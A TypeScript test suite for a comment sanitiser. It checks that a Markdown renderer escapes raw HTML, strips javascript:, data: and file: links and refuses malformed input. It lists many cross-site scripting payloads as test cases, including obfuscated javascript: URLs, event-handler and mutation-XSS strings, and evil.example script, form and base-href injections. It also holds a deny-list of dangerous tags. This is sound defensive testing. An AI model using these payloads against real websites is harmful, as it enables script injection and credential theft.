// Comment bodies: the Markdown renderer and sanitiser against hostile input, and the checks that refuse
// what a comment cannot hold. The checks of the output read it the way a browser would: attribute
// values with their entities decoded, URLs through the WHATWG parser.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { checkCommentBody, checkHideReason, COMMENT_LINK_REL, isSafeHref, MAX_COMMENT_CHARS, renderCommentHtml } from '../../src/comments/markdown.ts';

const ALLOWED_TAGS = new Set(['p', 'br', 'hr', 'strong', 'em', 's', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);

function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#([0-9]+);?/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
}

interface Tag { name: string; attrs: Map<string, string> }

/** Every start tag of the output with its attributes (the sanitiser always quotes attribute values). */
function tagsOf(out: string): Tag[] {
  const tags: Tag[] = [];
  for (const m of out.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    const attrs = new Map<string, string>();
    for (const a of m[2].matchAll(/([^\s=>/]+)(?:="([^"]*)")?/g)) attrs.set(a[1].toLowerCase(), decodeEntities(a[2] ?? ''));
    tags.push({ name: m[1].toLowerCase(), attrs });
  }
  return tags;
}

/** Asserts that the HTML can run nothing, load nothing and style nothing. */
function assertHarmless(input: string, out = renderCommentHtml(input)): string {
  const where = `for input ${JSON.stringify(input.slice(0, 200))}\noutput: ${out.slice(0, 500)}`;
  // Whatever is left of "<" in text is escaped: every "<" starts one of our tags.
  for (const m of out.matchAll(/<\/?([^\s>/]*)/g)) assert.ok(ALLOWED_TAGS.has(m[1].toLowerCase()), `tag <${m[1]}> ${where}`);
  for (const t of tagsOf(out)) {
    assert.ok(ALLOWED_TAGS.has(t.name), `tag ${t.name} ${where}`);
    for (const [name, value] of t.attrs) {
      assert.ok(['href', 'rel', 'start', 'class'].includes(name), `attribute ${name} ${where}`);
      if (name === 'class') assert.match(value, /^language-[A-Za-z0-9_+-]+$/, where);
      if (name === 'href') {
        const url = new URL(value, 'https://site.example/papers/2501.00001');
        assert.ok(['http:', 'https:', 'mailto:'].includes(url.protocol), `href ${value} ${where}`);
      }
    }
    if (t.name === 'a') {
      assert.equal(t.attrs.get('rel'), COMMENT_LINK_REL, `link rel ${where}`);
      assert.equal(t.attrs.has('target'), false, where);
    }
  }
  // The markup alone (text between tags is escaped, so it may say anything).
  const markup = [...out.matchAll(/<[^>]*>/g)].map((m) => m[0]).join('');
  assert.doesNotMatch(markup, /<(script|style|iframe|svg|math|img|object|embed|form|input|textarea|button|base|meta|link|frame|video|audio|source|template)\b/i, where);
  assert.doesNotMatch(markup, /\son[a-z]+\s*=/i, where);
  assert.doesNotMatch(markup, /\sstyle\s*=/i, where);
  assert.doesNotMatch(markup, /\ssrc(set)?\s*=/i, where);
  assert.doesNotMatch(markup, /href="\s*(javascript|vbscript|data|file):/i, where);
  return out;
}

test('plain Markdown renders as expected', () => {
  assert.equal(renderCommentHtml('Hello **world** and *you*'), '<p>Hello <strong>world</strong> and <em>you</em></p>');
  assert.equal(renderCommentHtml('line one\nline two'), '<p>line one<br />\nline two</p>');
  assert.equal(renderCommentHtml('`a < b`'), '<p><code>a &lt; b</code></p>');
  assert.match(renderCommentHtml('```python\nprint("<hi>")\n```'), /^<pre><code class="language-python">print\("&lt;hi&gt;"\)\n<\/code><\/pre>$/);
  assert.match(renderCommentHtml('> quoted\n\n- one\n- two\n\n3. three\n4. four'), /<blockquote>[\s\S]*<ul>[\s\S]*<ol start="3">/);
  assert.match(renderCommentHtml('~~gone~~'), /<s>gone<\/s>/);
  assert.match(renderCommentHtml('| a | b |\n|---|---|\n| 1 | 2 |'), /<table>[\s\S]*<td>1<\/td>/);
});

test('links: http(s), mailto and relative ones stay, with rel="nofollow ugc noopener" and no target', () => {
  assert.equal(
    renderCommentHtml('[paper](https://arxiv.org/abs/2501.00001)'),
    `<p><a href="https://arxiv.org/abs/2501.00001" rel="${COMMENT_LINK_REL}">paper</a></p>`,
  );
  assert.equal(renderCommentHtml('see https://example.org/x?a=1&b=2'), `<p>see <a href="https://example.org/x?a=1&amp;b=2" rel="${COMMENT_LINK_REL}">https://example.org/x?a=1&amp;b=2</a></p>`);
  assert.match(renderCommentHtml('[me](mailto:ada@example.org)'), /href="mailto:ada@example.org"/);
  assert.match(renderCommentHtml('[other paper](/papers/2501.00002)'), /href="\/papers\/2501.00002"/);
  assert.match(renderCommentHtml('<https://example.org>'), /<a href="https:\/\/example.org" rel="nofollow ugc noopener">/);
  assertHarmless('[x](https://example.org "title with <b>")');
});

test('raw HTML is shown as text, never passed through', () => {
  const cases = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><circle r=10 /></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">click</a>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<div onmouseover="alert(1)">hover</div>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<!-- <script>alert(1)</script> -->',
    '<!--><script>alert(1)</script>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<details open ontoggle=alert(1)>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<style>body{display:none}</style>',
    '<textarea><script>alert(1)</script></textarea>',
  ];
  for (const input of cases) {
    const out = assertHarmless(input);
    // The text is still there for people to read, escaped.
    assert.ok(out.includes('&lt;'), `escaped as text: ${out}`);
  }
  assert.equal(renderCommentHtml('<b>bold?</b>'), '<p>&lt;b&gt;bold?&lt;/b&gt;</p>');
});

test('javascript:, vbscript:, data: and file: links are dropped, whatever hides them', () => {
  const schemes = [
    'javascript:alert(1)',
    'JavaScript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
    'java&#x09;script:alert(1)',
    'java&#x0A;script:alert(1)',
    'java&#13;script:alert(1)',
    '&#x20;javascript:alert(1)',
    '%6Aavascript:alert(1)',
    'javascript%3Aalert(1)',
    '\\javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/png;base64,iVBORw0KGgo=',
    'DATA:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
  ];
  for (const s of schemes) {
    for (const input of [`[click](${s})`, `[click](<${s}>)`, `![img](${s})`, `<${s}>`, `[click][ref]\n\n[ref]: ${s}`, `[click]( ${s} "t")`]) {
      const out = assertHarmless(input);
      const hrefs = tagsOf(out).filter((t) => t.attrs.has('href')).map((t) => t.attrs.get('href')!);
      for (const h of hrefs) {
        const u = new URL(h, 'https://site.example/');
        assert.notEqual(u.protocol, 'javascript:', `${input} → ${out}`);
      }
    }
  }
  // Newlines and tabs inside the scheme are what the browser strips: the check sees them the same way.
  for (const href of ['java\nscript:alert(1)', 'java\tscript:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'JaVa\r\nScRiPt:x']) {
    assert.equal(isSafeHref(href), false, JSON.stringify(href));
  }
  for (const href of ['https://a.example', 'http://a.example/x', 'mailto:a@b.example', '/papers/1', '#comments', '//cdn.example/x']) {
    assert.equal(isSafeHref(href), true, href);
  }
});

test('images are never shown: Markdown images become links to the image', () => {
  const out = assertHarmless('![a cat](https://example.org/cat.png)');
  assert.equal(out, `<p><a href="https://example.org/cat.png" rel="${COMMENT_LINK_REL}">image: a cat</a></p>`);
  assert.doesNotMatch(assertHarmless('![tracking](https://t.example/pixel.gif "x") ![](https://example.org/y.png)'), /<img/);
  assert.match(assertHarmless('![onerror=alert(1)](https://example.org/x.png)'), /image: onerror=alert\(1\)/);
  assert.doesNotMatch(assertHarmless('![x](javascript:alert(1))'), /<a /);
});

test('headings are demoted below the page\'s own', () => {
  assert.equal(renderCommentHtml('# Big'), '<h4>Big</h4>');
  assert.equal(renderCommentHtml('## Less'), '<h5>Less</h5>');
  assert.equal(renderCommentHtml('### Small\n\n###### Tiny'), '<h6>Small</h6>\n<h6>Tiny</h6>');
});

test('code fences cannot smuggle attributes through the language name', () => {
  for (const info of ['"><script>alert(1)</script>', 'js onmouseover=alert(1)', 'x" style="color:red', 'javascript:alert(1)']) {
    assertHarmless(`\`\`\`${info}\ncode\n\`\`\``);
  }
});

test('very long and deeply nested input stays harmless and fast', () => {
  const cases = [
    '>'.repeat(MAX_COMMENT_CHARS),
    '['.repeat(MAX_COMMENT_CHARS),
    '*a'.repeat(MAX_COMMENT_CHARS / 2),
    '- '.repeat(MAX_COMMENT_CHARS / 2),
    '[x](javascript:alert(1))'.repeat(400),
    '<script>'.repeat(1200),
    `${'a'.repeat(MAX_COMMENT_CHARS - 20)}<script>x</script>`,
    '_'.repeat(MAX_COMMENT_CHARS),
    '![['.repeat(3000),
    '`'.repeat(MAX_COMMENT_CHARS),
    'https://a.example/'.repeat(500),
    '    indented\n'.repeat(700),
  ];
  for (const input of cases) {
    const start = performance.now();
    assertHarmless(input);
    assert.ok(performance.now() - start < 2000, `rendering took too long for ${JSON.stringify(input.slice(0, 30))}…`);
  }
});

test('checkCommentBody: trimmed and normalised, or refused with a reason', () => {
  assert.deepEqual(checkCommentBody('  hello\r\nworld\r  '), { ok: true, body: 'hello\nworld' });
  assert.deepEqual(checkCommentBody('tab\there'), { ok: true, body: 'tab\there' });
  const refused = (input: unknown, pattern: RegExp) => {
    const r = checkCommentBody(input);
    assert.equal(r.ok, false, JSON.stringify(input));
    if (!r.ok) assert.match(r.error, pattern);
  };
  refused('', /empty/);
  refused('   \n\t ', /empty/);
  refused('\u200B\u200B\uFEFF', /empty/);
  refused(undefined, /empty/);
  refused(42, /empty/);
  refused(['a', 'b'], /empty/);
  refused('nul\u0000byte', /control characters/);
  refused('escape \u001b[31mred', /control characters/);
  refused('bell\u0007', /control characters/);
  refused('c1 \u0085 next line', /control characters/);
  refused('del\u007f', /control characters/);
  refused('lone \uD800 surrogate', /broken characters/);
  refused('lone \uDC00 low', /broken characters/);
  refused('decoded badly: caf\uFFFD', /broken characters/);
  refused('x'.repeat(MAX_COMMENT_CHARS + 1), /too long: 10,001 characters, at most 10,000/);
  // Characters, not UTF-16 units: 10,000 emoji are allowed, as PostgreSQL counts them.
  assert.equal(checkCommentBody('😀'.repeat(MAX_COMMENT_CHARS)).ok, true);
  refused('😀'.repeat(MAX_COMMENT_CHARS + 1), /too long/);
  // Accents, right-to-left text and emoji are text like any other.
  assert.equal(checkCommentBody('Ça marche — שלום — 你好 — 👍🏽').ok, true);
});

test('checkHideReason: one line of 1 to 500 characters', () => {
  assert.deepEqual(checkHideReason('  off\ntopic  '), { ok: true, body: 'off topic' });
  assert.equal(checkHideReason('').ok, false);
  assert.equal(checkHideReason(undefined).ok, false);
  assert.equal(checkHideReason('x'.repeat(501)).ok, false);
  assert.equal(checkHideReason('a\u0000b').ok, false);
});
